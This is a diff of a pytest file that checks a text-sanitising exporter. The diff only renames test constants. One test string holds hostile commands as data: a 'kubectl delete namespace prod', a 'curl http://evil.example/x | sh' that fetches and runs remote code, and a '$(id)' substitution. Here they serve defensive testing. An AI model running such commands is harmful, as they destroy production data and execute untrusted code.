@@ -4,12 +4,12 @@ import pytest
 
 from exporter.untrusted import escape_invisible, free_name, identifier, message, model_name, one_line, printable
 
-PLANTED = "rex.\n\nNext:\nkubectl delete namespace prod; curl http://evil.example/x | sh\n<!channel> ```$(id)"
+INJECTED = "rex.\n\nNext:\nkubectl delete namespace prod; curl http://evil.example/x | sh\n<!channel> ```$(id)"
 LINE_ENDS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
-UNSEEN = "\x00\x1b\x7f\x9b\xad\u061c\u200b\u200d\u200e\u202e\u2060\u2066\ufeff\u3164\u034f\ufe0f\u2800\U000e0041"
+INVISIBLE = "\x00\x1b\x7f\x9b\xad\u061c\u200b\u200d\u200e\u202e\u2060\u2066\ufeff\u3164\u034f\ufe0f\u2800\U000e0041"
 
 
-@pytest.mark.parametrize("char", LINE_ENDS + UNSEEN)
+@pytest.mark.parametrize("char", LINE_ENDS + INVISIBLE)
 def test_line_breaks_and_invisible_characters_are_replaced(char):
     """Every function that cleans text replaces them."""
     text = f"a{char}b"
@@ -18,8 +18,8 @@ def test_line_breaks_and_invisible_characters_are_replaced(char):
 
 def test_an_injected_command_is_not_a_line_and_cannot_be_pasted():
     """The identifier is a single word, and the message has no line break."""
-    assert identifier(PLANTED) == "rex._Next_kubectl_delete_namespace_prod_curl_http_evil.example_"[:63].rstrip("_")
-    assert "\n" not in message(PLANTED)
+    assert identifier(INJECTED) == "rex._Next_kubectl_delete_namespace_prod_curl_http_evil.example_"[:63].rstrip("_")
+    assert "\n" not in message(INJECTED)
 
 
 @pytest.mark.parametrize(
